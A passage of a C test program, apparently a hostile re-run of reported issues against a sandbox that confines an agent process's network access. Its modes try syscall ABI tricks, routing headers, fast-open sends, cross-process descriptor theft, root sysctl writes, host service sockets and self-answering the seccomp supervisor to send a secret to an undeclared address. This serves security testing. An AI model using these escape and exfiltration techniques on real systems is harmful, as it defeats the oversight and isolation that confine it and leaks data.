/* h-attack80: an independent hostile re-run of issues 11 and 12, written
 * from the issues' text and docs/design.md's threat model only (not from
 * tests/agents or earlier reviews). One static program, one mode per
 * attack variant; each line it prints is "ha80 MODE STEP: rc=R errno=E ..."
 * so that a run can be read without the report. What reached a sink is the
 * ground truth; what this prints only says what the kernel answered.
 *
 * Addresses (a private network namespace's lo, or a guest's lo):
 *   declared   192.0.2.1:7000 (tcp, udp), [2001:db8::1]:7000
 *   undeclared 198.51.100.1:9999 (tcp, udp), [2001:db8::2]:9999
 *
 * Build: musl-gcc -static -O2 -D_GNU_SOURCE -o ha80-agent ha80-agent.c -lpthread
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define HI (1ULL << 32)
#define DECL4 "192.0.2.1"
#define UNDECL4 "198.51.100.1"
#define DECL6 "2001:db8::1"
#define UNDECL6 "2001:db8::2"
#define DPORT 7000
#define UPORT 9999

static const char *mode;

static void say(const char *step, long rc, int err, const char *extra)
{
	printf("ha80 %s %s: rc=%ld errno=%s%s%s\n", mode, step, rc, rc < 0 ? strerror(err) : "0",
	       extra ? " " : "", extra ? extra : "");
	fflush(stdout);
}

#define TRY(step, expr)                                                                            \
	do {                                                                                       \
		errno = 0;                                                                         \
		long r_ = (long)(expr);                                                            \
		say(step, r_, errno, NULL);                                                        \
	} while (0)

static struct sockaddr_in sin4(const char *a, int port)
{
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, a, &s.sin_addr);
	return s;
}

static struct sockaddr_in6 sin6(const char *a, int port)
{
	struct sockaddr_in6 s = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
	inet_pton(AF_INET6, a, &s.sin6_addr);
	return s;
}

static char secret[64];

/* ---- i386 entry from this 64-bit process (int $0x80) ---- */
static long int80(long nr, long a, long b, long c, long d, long e, long f)
{
	long ret;
	(void)f; /* no call here needs the sixth argument (ebp) */
	/* i386 ABI: eax nr, ebx, ecx, edx, esi, edi; the compat entry clears
	 * r8-r11. */
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "r8", "r9", "r10", "r11", "cc");
	return ret;
}

static void *low(size_t n)
{
	void *p =
	    mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (p == MAP_FAILED) {
		perror("mmap32");
		exit(2);
	}
	return p;
}

static void say80(const char *step, long r)
{
	say(step, r < 0 && r > -4096 ? -1 : r, r < 0 && r > -4096 ? (int)-r : 0, NULL);
}

/* ---- class 1: high bits of int arguments ---- */
static int mode_highbits(void)
{
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	/* LSRR: first hop the undeclared address, final the declared one. */
	unsigned char lsrr[12] = {1, 0x83, 11, 4};
	struct in_addr a;
	inet_pton(AF_INET, UNDECL4, &a);
	memcpy(lsrr + 4, &a, 4);
	inet_pton(AF_INET, DECL4, &a);
	memcpy(lsrr + 8, &a, 4);
	TRY("setsockopt-ip-options-hi",
	    syscall(SYS_setsockopt, u, HI | IPPROTO_IP, HI | IP_OPTIONS, lsrr, sizeof(lsrr)));
	TRY("setsockopt-ip-options-hi-len",
	    syscall(SYS_setsockopt, u, IPPROTO_IP, IP_OPTIONS, lsrr, HI | sizeof(lsrr)));
	struct sockaddr_in d = sin4(DECL4, DPORT);
	TRY("sendto-declared-after", sendto(u, secret, strlen(secret), 0, (void *)&d, sizeof(d)));

	int u6 = socket(AF_INET6, SOCK_DGRAM, 0);
	/* A type-4 segment routing header: segments_left 1, one segment
	 * (the undeclared address) plus the final (the declared one). */
	unsigned char srh[8 + 32] = {0, 4, 4, 1, 1, 0, 0, 0};
	struct in6_addr x;
	inet_pton(AF_INET6, DECL6, &x);
	memcpy(srh + 8, &x, 16);
	inet_pton(AF_INET6, UNDECL6, &x);
	memcpy(srh + 24, &x, 16);
	TRY("setsockopt-rthdr4-hi", syscall(SYS_setsockopt, u6, (0xdeadULL << 32) | IPPROTO_IPV6,
					    HI | 57, srh, sizeof(srh)));
	/* Type 2 (mobile IPv6), through the flow label manager and sticky. */
	unsigned char rt2[24] = {0, 2, 2, 1, 0, 0, 0, 0};
	inet_pton(AF_INET6, UNDECL6, &x);
	memcpy(rt2 + 8, &x, 16);
	TRY("setsockopt-rthdr2-hi",
	    syscall(SYS_setsockopt, u6, HI | IPPROTO_IPV6, HI | 57, rt2, sizeof(rt2)));
	struct sockaddr_in6 d6 = sin6(DECL6, DPORT);
	TRY("sendto6-declared-after",
	    sendto(u6, secret, strlen(secret), 0, (void *)&d6, sizeof(d6)));

	/* Kinds past the allow-list with high bits on every argument. */
	TRY("socket-ping-hi",
	    syscall(SYS_socket, HI | AF_INET, HI | SOCK_DGRAM, HI | IPPROTO_ICMP));
	TRY("socket-raw-udp-hi",
	    syscall(SYS_socket, HI | AF_INET, HI | SOCK_RAW, HI | IPPROTO_UDP));
	TRY("socket-packet-hi", syscall(SYS_socket, HI | 17, HI | SOCK_DGRAM, HI | 0x0008));
	TRY("socket-seqpacket-proto0-hi",
	    syscall(SYS_socket, HI | AF_INET, HI | SOCK_SEQPACKET, HI));
	TRY("setsockopt-bindtodevice-hi",
	    syscall(SYS_setsockopt, u, HI | SOL_SOCKET, HI | SO_BINDTODEVICE, "lo", 3));
	TRY("setsockopt-unicast-if-hi",
	    syscall(SYS_setsockopt, u, HI | IPPROTO_IP, HI | 50, &(int){htonl(1)}, 4));

	/* Sending calls with high bits in fd, flags and lengths. */
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	TRY("sendto-undeclared-hi-fd-flags-len", syscall(SYS_sendto, HI | (unsigned)u, secret,
							 strlen(secret), HI, &un, HI | sizeof(un)));
	int t = socket(AF_INET, SOCK_STREAM, 0);
	TRY("connect-undeclared-hi-fd-len",
	    syscall(SYS_connect, HI | (unsigned)t, &un, HI | sizeof(un)));
	TRY("write-after-connect", write(t, secret, strlen(secret)));
	struct iovec io = {secret, strlen(secret)};
	struct msghdr mh = {
	    .msg_name = &un, .msg_namelen = sizeof(un), .msg_iov = &io, .msg_iovlen = 1};
	TRY("sendmsg-undeclared-hi-fd-flags", syscall(SYS_sendmsg, HI | (unsigned)u, &mh, HI));
	/* listen with a wildcard bound socket, high bits on fd and backlog. */
	int l = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(7100)};
	bind(l, (void *)&any, sizeof(any));
	TRY("listen-wildcard-hi", syscall(SYS_listen, HI | (unsigned)l, HI | 5));
	return 0;
}

/* ---- foreign ABI (i386) variants of classes 1-4 and 7 ---- */
static int mode_i386(const char *arg)
{
	char *buf = low(4096);
	long *args = (long *)(void *)(buf + 2048);
	uint32_t *a32 = (uint32_t *)(void *)args;
	struct sockaddr_in *un = (void *)(buf + 1024);
	*un = sin4(UNDECL4, UPORT);
	strcpy(buf, secret);
	/* socketcall(SYS_SOCKET, {AF_INET, SOCK_SEQPACKET, 0}): SCTP's
	 * one-to-many kind where sctp exists. */
	a32[0] = AF_INET;
	a32[1] = SOCK_SEQPACKET;
	a32[2] = 0;
	say80("socketcall-socket-seqpacket", int80(102, 1, (long)a32, 0, 0, 0, 0));
	/* Direct i386 socket calls (Linux 4.3+): 359 socket, 362 connect,
	 * 363 listen, 366 setsockopt, 369 sendto, 370 sendmsg. */
	say80("i386-socket-sctp", int80(359, AF_INET, SOCK_STREAM, 132, 0, 0, 0));
	say80("i386-socket-packet", int80(359, 17, SOCK_DGRAM, 0x0008, 0, 0, 0));
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	int u6 = socket(AF_INET6, SOCK_DGRAM, 0);
	unsigned char *rt2 = (unsigned char *)buf + 512;
	memset(rt2, 0, 24);
	rt2[1] = 2;
	rt2[2] = 2;
	rt2[3] = 1;
	inet_pton(AF_INET6, UNDECL6, rt2 + 8);
	say80("i386-setsockopt-rthdr", int80(366, u6, IPPROTO_IPV6, 57, (long)rt2, 24, 0));
	a32[0] = (uint32_t)u6;
	a32[1] = IPPROTO_IPV6;
	a32[2] = 57;
	a32[3] = (uint32_t)(uintptr_t)rt2;
	a32[4] = 24;
	say80("socketcall-setsockopt-rthdr", int80(102, 14, (long)a32, 0, 0, 0, 0));
	say80("i386-setsockopt-bindtodevice",
	      int80(366, u, SOL_SOCKET, SO_BINDTODEVICE, (long)"lo", 3, 0));
	say80("i386-sendto-undeclared",
	      int80(369, u, (long)buf, (long)strlen(secret), 0, (long)un, sizeof(*un)));
	int t = socket(AF_INET, SOCK_STREAM, 0);
	say80("i386-connect-undeclared", int80(362, t, (long)un, sizeof(*un), 0, 0, 0));
	TRY("write-after-i386-connect", write(t, secret, strlen(secret)));
	int l = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(7101)};
	bind(l, (void *)&any, sizeof(any));
	say80("i386-listen-wildcard", int80(363, l, 5, 0, 0, 0, 0));
	a32[0] = (uint32_t)l;
	a32[1] = 5;
	say80("socketcall-listen-wildcard", int80(102, 4, (long)a32, 0, 0, 0, 0));
	/* 425 io_uring_setup, 426 io_uring_enter, 438 pidfd_getfd (i386). */
	say80("i386-io_uring_setup", int80(425, 4, (long)(buf + 3072), 0, 0, 0, 0));
	say80("i386-io_uring_enter-fd0", int80(426, 0, 1, 0, 0, 0, 0));
	int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
	say80("i386-pidfd_getfd-self", int80(438, self, u, 0, 0, 0, 0));
	if (arg) {
		int pfd = (int)syscall(SYS_pidfd_open, atoi(arg), 0);
		say("pidfd_open-outsider", pfd, errno, NULL);
		long r = int80(438, pfd, 3, 0, 0, 0, 0);
		say80("i386-pidfd_getfd-outsider", r);
		if (r >= 0)
			TRY("write-outsider-socket", write((int)r, secret, strlen(secret)));
	}
	return 0;
}

/* ---- foreign ABI (x32: bit 30 on the number, 64-bit registers) ---- */
static int mode_x32(void)
{
	const long X = 0x40000000L;
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	int t = socket(AF_INET, SOCK_STREAM, 0), u = socket(AF_INET, SOCK_DGRAM, 0);
	int u6 = socket(AF_INET6, SOCK_DGRAM, 0);
	TRY("x32-connect-undeclared", syscall(X | 42, t, &un, sizeof(un)));
	TRY("write-after-x32-connect", write(t, secret, strlen(secret)));
	TRY("x32-sendto-undeclared",
	    syscall(X | 44, u, secret, strlen(secret), 0, &un, sizeof(un)));
	TRY("x32-socket-packet", syscall(X | 41, 17, SOCK_DGRAM, 8));
	TRY("x32-socket-sctp", syscall(X | 41, AF_INET, SOCK_STREAM, 132));
	unsigned char rt2[24] = {0, 2, 2, 1};
	inet_pton(AF_INET6, UNDECL6, rt2 + 8);
	TRY("x32-setsockopt-rthdr", syscall(X | 541, u6, IPPROTO_IPV6, 57, rt2, 24));
	int l = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(7108)};
	bind(l, (void *)&any, sizeof(any));
	TRY("x32-listen-wildcard", syscall(X | 50, l, 5));
	uint32_t p[30] = {0};
	TRY("x32-io_uring_setup", syscall(X | 425, 4, p));
	TRY("x32-io_uring_enter-0", syscall(X | 426, 0, 1, 0, 0, NULL, 0));
	int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
	TRY("x32-pidfd_getfd-self", syscall(X | 438, self, u, 0));
	TRY("x32-kcmp-self", syscall(X | 312, getpid(), getpid(), 0, 0, 0));
	TRY("x32-prlimit64-parent", syscall(X | 302, getppid(), RLIMIT_CPU, NULL, NULL));
	return 0;
}

/* ---- class 2: protocols that connect without connect() ---- */
static int mode_proto(void)
{
	TRY("socket-inet-seqpacket-0", socket(AF_INET, SOCK_SEQPACKET, 0));
	TRY("socket-inet6-seqpacket-0", socket(AF_INET6, SOCK_SEQPACKET, 0));
	TRY("socket-inet-stream-sctp-nonblock", socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 132));
	TRY("socket-inet6-stream-mptcp-cloexec", socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 262));
	TRY("socket-inet-dgram-udplite", socket(AF_INET, SOCK_DGRAM, 136));
	TRY("socket-inet-dccp", socket(AF_INET, 6 /* SOCK_DCCP */, 33));
	TRY("socket-tipc", socket(30, SOCK_RDM, 0));
	TRY("socket-rds", socket(21, SOCK_SEQPACKET, 0));
	TRY("socket-vsock", socket(40, SOCK_STREAM, 0));
	TRY("socket-netlink-generic", socket(AF_NETLINK, SOCK_RAW, 16));
	TRY("socket-netlink-route-dgram", socket(AF_NETLINK, SOCK_DGRAM, 0));
	int sv[2];
	TRY("socketpair-inet-seqpacket", socketpair(AF_INET, SOCK_SEQPACKET, 0, sv));
	/* TCP fast open: a deferred connect, then a send that makes it. */
	int t = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(t, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &(int){1}, 4);
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	TRY("tfo-connect-undeclared", connect(t, (void *)&un, sizeof(un)));
	TRY("tfo-write", write(t, secret, strlen(secret)));
	int t2 = socket(AF_INET, SOCK_STREAM, 0);
	TRY("msg-fastopen-undeclared",
	    sendto(t2, secret, strlen(secret), MSG_FASTOPEN, (void *)&un, sizeof(un)));
	/* v4-mapped name on an IPv6 TCP socket, fast open. */
	int t6 = socket(AF_INET6, SOCK_STREAM, 0);
	struct sockaddr_in6 m = {.sin6_family = AF_INET6, .sin6_port = htons(UPORT)};
	inet_pton(AF_INET6, "::ffff:" UNDECL4, &m.sin6_addr);
	TRY("msg-fastopen-mapped-undeclared",
	    sendto(t6, secret, strlen(secret), MSG_FASTOPEN, (void *)&m, sizeof(m)));
	/* A deferred fast-open connect to the declared address, then a send
	 * naming the undeclared one (TCP ignores the name after the connect). */
	int t3 = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(t3, IPPROTO_TCP, 30, &(int){1}, 4);
	struct sockaddr_in dd = sin4(DECL4, DPORT);
	TRY("tfo-connect-declared", connect(t3, (void *)&dd, sizeof(dd)));
	TRY("tfo-sendto-naming-undeclared",
	    sendto(t3, secret, strlen(secret), 0, (void *)&un, sizeof(un)));
	return 0;
}

/* ---- TCP-ignores-name with the descriptor swapped by a sibling ---- */
static volatile int stop;
static int swap_n, swap_tcp, swap_udp;

static void *swapper(void *p)
{
	(void)p;
	while (!stop) {
		dup2(swap_udp, swap_n);
		dup2(swap_tcp, swap_n);
	}
	return NULL;
}

static int mode_swap(int rounds)
{
	struct sockaddr_in dd = sin4(DECL4, DPORT), un = sin4(UNDECL4, UPORT);
	swap_tcp = socket(AF_INET, SOCK_STREAM, 0);
	TRY("connect-declared", connect(swap_tcp, (void *)&dd, sizeof(dd)));
	swap_udp = socket(AF_INET, SOCK_DGRAM, 0);
	swap_n = 50;
	dup2(swap_tcp, swap_n);
	pthread_t th;
	pthread_create(&th, NULL, swapper, NULL);
	int ok = 0, eacces = 0, other = 0;
	for (int i = 0; i < rounds; i++) {
		ssize_t r =
		    sendto(swap_n, secret, strlen(secret), MSG_NOSIGNAL, (void *)&un, sizeof(un));
		if (r >= 0)
			ok++;
		else if (errno == EACCES)
			eacces++;
		else
			other++;
		struct iovec io = {secret, strlen(secret)};
		struct msghdr mh = {
		    .msg_name = &un, .msg_namelen = sizeof(un), .msg_iov = &io, .msg_iovlen = 1};
		r = sendmsg(swap_n, &mh, MSG_NOSIGNAL);
		if (r >= 0)
			ok++;
		else if (errno == EACCES)
			eacces++;
		else
			other++;
	}
	stop = 1;
	pthread_join(th, NULL);
	printf("ha80 swap totals: sent=%d eacces=%d other=%d\n", ok, eacces, other);
	return 0;
}

/* ---- class 3: inbound ---- */
static int listen_and_serve(int l, const char *step)
{
	errno = 0;
	int r = listen(l, 5);
	struct sockaddr_storage ss;
	socklen_t sl = sizeof(ss);
	char name[80] = "?";
	getsockname(l, (void *)&ss, &sl);
	if (ss.ss_family == AF_INET)
		snprintf(name, sizeof(name), "bound=%s:%d",
			 inet_ntoa(((struct sockaddr_in *)&ss)->sin_addr),
			 ntohs(((struct sockaddr_in *)&ss)->sin_port));
	else if (ss.ss_family == AF_INET6) {
		char b[64];
		inet_ntop(AF_INET6, &((struct sockaddr_in6 *)&ss)->sin6_addr, b, sizeof(b));
		snprintf(name, sizeof(name), "bound=[%s]:%d", b,
			 ntohs(((struct sockaddr_in6 *)&ss)->sin6_port));
	}
	say(step, r, errno, name);
	if (r != 0)
		return 0;
	struct pollfd p = {.fd = l, .events = POLLIN};
	if (poll(&p, 1, 3000) == 1) {
		int c = accept(l, NULL, NULL);
		TRY("accepted-write", write(c, secret, strlen(secret)));
		close(c);
	}
	return 0;
}

static int mode_inbound(const char *which)
{
	if (!strcmp(which, "autobind")) {
		int l = socket(AF_INET, SOCK_STREAM, 0);
		return listen_and_serve(l, "listen-unbound-autobind");
	}
	if (!strcmp(which, "declared-addr")) {
		int l = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in a = sin4(DECL4, 7102);
		bind(l, (void *)&a, sizeof(a));
		return listen_and_serve(l, "listen-declared-addr");
	}
	if (!strcmp(which, "mapped")) {
		int l = socket(AF_INET6, SOCK_STREAM, 0);
		struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(7103)};
		inet_pton(AF_INET6, "::ffff:" DECL4, &a.sin6_addr);
		TRY("bind-mapped", bind(l, (void *)&a, sizeof(a)));
		return listen_and_serve(l, "listen-mapped-declared");
	}
	if (!strcmp(which, "mapped-loopback")) {
		int l = socket(AF_INET6, SOCK_STREAM, 0);
		struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(7104)};
		inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
		TRY("bind-mapped-loopback", bind(l, (void *)&a, sizeof(a)));
		return listen_and_serve(l, "listen-mapped-loopback");
	}
	if (!strcmp(which, "rebind")) {
		/* Listen on loopback (allowed), stop it with shutdown (not
		 * trapped), rebind to the wildcard and listen again. */
		int l = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in a = sin4("127.0.0.1", 0);
		bind(l, (void *)&a, sizeof(a));
		TRY("listen-loopback", listen(l, 5));
		TRY("shutdown-rd", shutdown(l, SHUT_RD));
		struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(7105)};
		TRY("rebind-wildcard", bind(l, (void *)&any, sizeof(any)));
		return listen_and_serve(l, "listen-again-wildcard");
	}
	if (!strcmp(which, "disconnect")) {
		/* Listen on loopback, then connect(AF_UNSPEC) (a disconnect,
		 * trapped) and rebind. */
		int l = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in a = sin4("127.0.0.1", 0);
		bind(l, (void *)&a, sizeof(a));
		TRY("listen-loopback", listen(l, 5));
		struct sockaddr sa = {.sa_family = AF_UNSPEC};
		TRY("connect-unspec", connect(l, &sa, sizeof(sa)));
		struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(7106)};
		TRY("rebind-wildcard", bind(l, (void *)&any, sizeof(any)));
		return listen_and_serve(l, "listen-again-wildcard");
	}
	if (!strcmp(which, "v6any-v6only")) {
		int l = socket(AF_INET6, SOCK_STREAM, 0);
		setsockopt(l, IPPROTO_IPV6, IPV6_V6ONLY, &(int){0}, 4);
		struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(7107)};
		bind(l, (void *)&a, sizeof(a));
		return listen_and_serve(l, "listen-v6-any-dual");
	}
	fprintf(stderr, "unknown inbound variant\n");
	return 2;
}

/* ---- class 4: reaching into other processes ---- */
static int mode_cross(const char *pidstr)
{
	pid_t pid = atoi(pidstr);
	char path[64];
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
	say("pidfd_open", pfd, errno, NULL);
	if (pfd >= 0) {
		for (int fd = 3; fd < 8; fd++) {
			errno = 0;
			int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
			say("pidfd_getfd", g, errno, NULL);
			if (g >= 0)
				TRY("write-taken", write(g, secret, strlen(secret)));
		}
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	TRY("open-proc-mem-rw", open(path, O_RDWR));
	snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
	TRY("open-proc-fd3", open(path, O_RDWR));
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	int c = open(path, O_RDONLY);
	char cmd[128] = "";
	if (c >= 0) {
		ssize_t n = read(c, cmd, sizeof(cmd) - 1);
		if (n > 0)
			cmd[n] = 0;
	}
	say("read-cmdline", c, errno, cmd);
	TRY("ptrace-seize", syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, pid, 0, 0));
	char b[8];
	struct iovec l = {b, 8}, r = {(void *)0x400000, 8};
	TRY("process_vm_readv", syscall(SYS_process_vm_readv, pid, &l, 1, &r, 1, 0));
	TRY("kcmp", syscall(SYS_kcmp, getpid(), pid, 0, 0, 0));
	TRY("kill-0", kill(pid, 0));
	/* setns into the outsider's network namespace by its pidfd. */
	if (pfd >= 0)
		TRY("setns-pidfd-net", setns(pfd, CLONE_NEWNET));
	snprintf(path, sizeof(path), "/proc/%d/ns/net", pid);
	int ns = open(path, O_RDONLY);
	say("open-ns-net", ns, errno, NULL);
	if (ns >= 0)
		TRY("setns-nsfile-net", setns(ns, CLONE_NEWNET));
	return 0;
}

/* ---- class 5: a root agent ---- */
static int mode_rootknobs(void)
{
	const char *files[] = {"/proc/sys/kernel/core_pattern",
			       "/proc/sys/kernel/modprobe",
			       "/proc/sys/net/ipv4/conf/all/route_localnet",
			       "/proc/sys/net/ipv4/conf/lo/route_localnet",
			       "/sys/kernel/uevent_helper",
			       "/proc/sysrq-trigger",
			       "/proc/1/root/proc/sys/kernel/core_pattern",
			       "/proc/self/root/proc/sys/kernel/modprobe",
			       "/proc/sys/fs/binfmt_misc/register",
			       "/dev/kmsg",
			       "/etc/ha80-probe",
			       "/usr/local/sbin/ha80-probe",
			       "/var/spool/cron/crontabs/ha80"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		errno = 0;
		int fd = open(files[i], O_WRONLY | (i >= 10 ? O_CREAT : 0), 0644);
		say("open-wr", fd, errno, files[i]);
		if (fd >= 0) {
			close(fd);
			if (i >= 10)
				unlink(files[i]);
		}
	}
	printf("ha80 %s uid=%d euid=%d\n", mode, getuid(), geteuid());
	/* A user namespace of its own, then a proc or sysfs of its own. */
	pid_t p = fork();
	if (p == 0) {
		TRY("unshare-user-mnt-net", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET));
		mkdir("/tmp/ha80-mnt", 0700);
		TRY("mount-proc", syscall(SYS_mount, "proc", "/tmp/ha80-mnt", "proc", 0, NULL));
		TRY("mount-sysfs", syscall(SYS_mount, "sysfs", "/tmp/ha80-mnt", "sysfs", 0, NULL));
		int fd = open("/tmp/ha80-mnt/sys/kernel/core_pattern", O_WRONLY);
		say("open-core-pattern-new-proc", fd, errno, NULL);
		_exit(0);
	}
	waitpid(p, NULL, 0);
	/* AF_UNIX services of the host that run commands. */
	const char *svc[] = {"/run/systemd/private", "/run/dbus/system_bus_socket",
			     "/var/run/docker.sock", "/run/user/1000/bus"};
	for (size_t i = 0; i < 4; i++) {
		struct sockaddr_un {
			sa_family_t f;
			char p[108];
		} su = {.f = AF_UNIX};
		strncpy(su.p, svc[i], sizeof(su.p) - 1);
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		errno = 0;
		int r = connect(s, (void *)&su, sizeof(su));
		say("connect-unix", r, errno, svc[i]);
		close(s);
	}
	return 0;
}

/* ---- class 5 variant: a root service's AF_UNIX socket outside the run
 * (the runner listens on /tmp/ha80-svc.sock as root), reached by names the
 * kernel resolves: plain, through a magic link, through a link the agent
 * makes in its own /dev/shm, from a working directory ---- */
static int unix_try(const char *step, const char *path)
{
	struct {
		sa_family_t f;
		char p[108];
	} su = {.f = AF_UNIX};
	strncpy(su.p, path, sizeof(su.p) - 1);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	errno = 0;
	int r = connect(s, (void *)&su, sizeof(su));
	say(step, r, errno, path);
	if (r == 0)
		TRY("write-service", write(s, secret, strlen(secret)));
	close(s);
	return r;
}

static int mode_unixsvc(void)
{
	const char *svc = "/tmp/ha80-svc.sock";
	char path[64];
	unix_try("connect-plain", svc);
	int o = open(svc, O_PATH);
	say("open-o_path", o, errno, NULL);
	if (o >= 0) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", o);
		unix_try("connect-proc-self-fd", path);
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", getpid(), o);
		unix_try("connect-proc-pid-fd", path);
	}
	unix_try("connect-proc-self-root", "/proc/self/root/tmp/ha80-svc.sock");
	unix_try("connect-proc-1-root", "/proc/1/root/tmp/ha80-svc.sock");
	TRY("symlink-devshm", symlink(svc, "/dev/shm/ha80-link"));
	unix_try("connect-devshm-link", "/dev/shm/ha80-link");
	if (chdir("/tmp") == 0)
		unix_try("connect-relative", "ha80-svc.sock");
	if (chdir("/proc/self/root/tmp") == 0)
		unix_try("connect-relative-from-magic-cwd", "ha80-svc.sock");
	return 0;
}

/* ---- class 6: inherited descriptors ---- */
static int mode_inherit(void)
{
	char line[160];
	for (int fd = 0; fd < 70000; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		int type = -1;
		socklen_t tl = sizeof(type);
		int is_sock = getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &tl) == 0;
		char lp[32], tgt[64] = "";
		snprintf(lp, sizeof(lp), "/proc/self/fd/%d", fd);
		ssize_t tn = readlink(lp, tgt, sizeof(tgt) - 1);
		if (tn > 0)
			tgt[tn] = 0;
		snprintf(line, sizeof(line), "fd=%d socket=%d type=%d -> %s", fd, is_sock, type,
			 tgt);
		say("open-descriptor", 0, 0, line);
		if (fd > 2 || is_sock) {
			errno = 0;
			long r = send(fd, secret, strlen(secret), MSG_NOSIGNAL | MSG_DONTWAIT);
			say("send-on-it", r, errno, line);
		}
	}
	return 0;
}

/* ---- class 6 variant: what the supervisor itself leaves on 0-2 when its
 * caller started it with them closed ---- */
struct notif {
	uint64_t id;
	uint32_t pid, flags;
	int nr;
	uint32_t arch;
	uint64_t ip, args[6];
};
struct notif_resp {
	uint64_t id;
	int64_t val;
	int32_t error;
	uint32_t flags;
};
#define NOTIF_RECV 0xc0502100ul /* SECCOMP_IOCTL_NOTIF_RECV */
#define NOTIF_SEND 0xc0182101ul /* SECCOMP_IOCTL_NOTIF_SEND */

static int listener_fd = -1;
static volatile int answered;

static void *self_answer(void *p)
{
	(void)p;
	for (;;) {
		struct notif n;
		memset(&n, 0, sizeof(n));
		if (ioctl(listener_fd, NOTIF_RECV, &n) != 0)
			continue;
		struct notif_resp r = {.id = n.id, .flags = 1 /* CONTINUE */};
		if (ioctl(listener_fd, NOTIF_SEND, &r) == 0)
			answered++;
	}
	return NULL;
}

static int mode_fdpoke(void)
{
	for (int fd = 0; fd < 3; fd++) {
		char lp[32], tgt[128] = "";
		snprintf(lp, sizeof(lp), "/proc/self/fd/%d", fd);
		ssize_t tn = readlink(lp, tgt, sizeof(tgt) - 1);
		if (tn <= 0)
			continue;
		tgt[tn] = 0;
		say("fd", fd, 0, tgt);
		struct stat st;
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			int f = openat(fd, "ha80-poke", O_CREAT | O_WRONLY, 0644);
			say("openat-dirfd-create", f, errno, tgt);
		}
		if (strstr(tgt, "inotify")) {
			char ev[4096];
			fcntl(fd, F_SETFL, O_NONBLOCK);
			TRY("inotify-read", read(fd, ev, sizeof(ev)));
			int removed = 0;
			for (int wd = 1; wd < 256; wd++)
				if (syscall(SYS_inotify_rm_watch, fd, wd) == 0)
					removed++;
			printf("ha80 %s inotify watches removed: %d\n", mode, removed);
		}
		if (strstr(tgt, "seccomp")) {
			listener_fd = fd;
			pthread_t th;
			pthread_create(&th, NULL, self_answer, NULL);
		}
	}
	usleep(100000);
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	for (int i = 0; i < 20; i++) {
		int t = socket(AF_INET, SOCK_STREAM, 0);
		errno = 0;
		int r = connect(t, (void *)&un, sizeof(un));
		if (r == 0) {
			say("connect-undeclared", r, errno, NULL);
			TRY("write", write(t, secret, strlen(secret)));
			break;
		}
		close(t);
	}
	printf("ha80 %s self-answered: %d\n", mode, answered);
	return 0;
}

/* ---- class 7: io_uring ---- */
static int mode_uring(void)
{
	/* struct io_uring_params: 120 bytes, flags at offset 8 (SQPOLL 2). */
	uint32_t p[30] = {0}, q[30] = {0};
	q[2] = 2;
	TRY("io_uring_setup", syscall(SYS_io_uring_setup, 4, p));
	TRY("io_uring_setup-sqpoll", syscall(SYS_io_uring_setup, 4, q));
	for (int fd = 0; fd < 3; fd++)
		TRY("io_uring_enter-stdio", syscall(SYS_io_uring_enter, fd, 1, 0, 0, NULL, 0));
	TRY("io_uring_register-fd0", syscall(SYS_io_uring_register, 0, 0, NULL, 0));
	return 0;
}

/* ---- the sendto-name false red ---- */
static int mode_falsered(void)
{
